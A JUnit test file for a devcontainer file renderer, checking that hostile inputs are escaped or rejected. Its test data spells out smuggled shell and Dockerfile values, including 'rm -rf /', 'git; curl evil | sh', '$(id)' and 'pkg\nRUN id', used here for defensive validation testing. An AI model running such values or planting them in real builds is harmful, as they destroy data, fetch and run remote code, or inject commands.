package io.github.dind.devcontainer.render;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.github.dind.devcontainer.spec.DevcontainerSpec;
import io.github.dind.devcontainer.spec.InvalidSpecException;
import io.github.dind.devcontainer.testing.DevcontainerSchema;
import io.github.dind.devcontainer.testing.Jsonc;
import io.github.dind.devcontainer.testing.Processes;
import io.github.dind.devcontainer.testing.Specs;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Hostile values end up escaped (and the files still parse) or rejected before anything is written. */
class HostileInputTest {

    /** Names that are legal free text: they must come out of every file unchanged. */
    static Stream<String> acceptedNames() {
        return Stream.of(
                "semi;colon && rm -rf /",
                "$(id) `id` $HOME",
                "single ' and double \" quotes",
                "back\\slash\\",
                "naïve café 日本語 🐳",
                "</script>{{mustache}}{{{triple}}}");
    }

    /** Names no format can carry safely: rejected, naming the parameter. */
    static Stream<String> rejectedNames() {
        return Stream.of("line\nbreak", "carriage\rreturn", "tab\tchar", "nul\u0000char", "escape\u001b[31m",
                "bidi \u202e override", "line\u2028separator", "${localEnv:SECRET}", "", " ");
    }

    @ParameterizedTest
    @MethodSource("acceptedNames")
    void aFreeTextNameRoundTripsThroughEveryFile(String name) throws Exception {
        DevcontainerSpec spec = Specs.build(Specs.sample("debian").name(name)
                .label("org.opencontainers.image.title", name));
        List<GeneratedFile> files = new Renderer(null).render(spec);

        String json = GeneratedFileMarker.stamp(file(files, "devcontainer.json"));
        assertThat(Jsonc.parse(json).path("name").textValue()).isEqualTo(name);
        assertThat(DevcontainerSchema.problems(json)).isEmpty();

        String dockerfile = file(files, "Dockerfile").body();
        Matcher label = Pattern.compile("(?m)^LABEL org\\.opencontainers\\.image\\.title=(\".*\")$").matcher(dockerfile);
        assertThat(label.find()).as(dockerfile).isTrue();
        assertThat(EscapersTest.DockerfileWords.unquote(label.group(1))).isEqualTo(name);

        Processes.Result shellcheck = Processes.run(List.of("shellcheck", "-"),
                GeneratedFileMarker.stamp(file(files, "startup.sh")));
        assertThat(shellcheck.exitCode()).as(shellcheck.stdout()).isZero();
    }

    @ParameterizedTest
    @MethodSource("rejectedNames")
    void aNameNoFormatCanCarryIsRejected(String name) {
        assertThatThrownBy(() -> Specs.sample("debian").name(name).build())
                .isInstanceOf(InvalidSpecException.class)
                .hasMessageContaining("name \"");
    }

    static Stream<String> hostileTokens() {
        return Stream.of("git; curl evil | sh", "$(id)", "`id`", "pkg'quote", "pkg\"quote", "pkg\nRUN id",
                "pkg\\", "ünïcode", "-o=APT::Foo", "--allow-unauthenticated", "pkg name", "");
    }

    @ParameterizedTest
    @MethodSource("hostileTokens")
    void aHostilePackageIsRejectedForEveryPackageManager(String pkg) {
        for (String distro : List.of("debian", "ubuntu", "alpine", "wolfi")) {
            assertThatThrownBy(() -> Specs.sample(distro).packages(List.of(pkg)).build())
                    .as(distro)
                    .isInstanceOf(InvalidSpecException.class)
                    .hasMessageContaining("packages \"");
        }
    }

    @ParameterizedTest
    @MethodSource("hostileTokens")
    void aHostileUserIsRejected(String user) {
        assertThatThrownBy(() -> Specs.sample("debian").remoteUser(user).build())
                .isInstanceOf(InvalidSpecException.class)
                .hasMessageContaining("remoteUser \"");
    }

    /** The tokens minus the empty one: an empty base image means "the distro's default". */
    static Stream<String> hostileImages() {
        return hostileTokens().filter(token -> !token.isEmpty());
    }

    @ParameterizedTest
    @MethodSource("hostileImages")
    void aHostileBaseImageIsRejected(String image) {
        assertThatThrownBy(() -> Specs.sample("debian").baseImage(image).build())
                .isInstanceOf(InvalidSpecException.class)
                .hasMessageContaining("baseImage \"");
    }

    private static GeneratedFile file(List<GeneratedFile> files, String name) {
        return files.stream().filter(f -> f.fileName().equals(name)).findFirst().orElseThrow();
    }
}
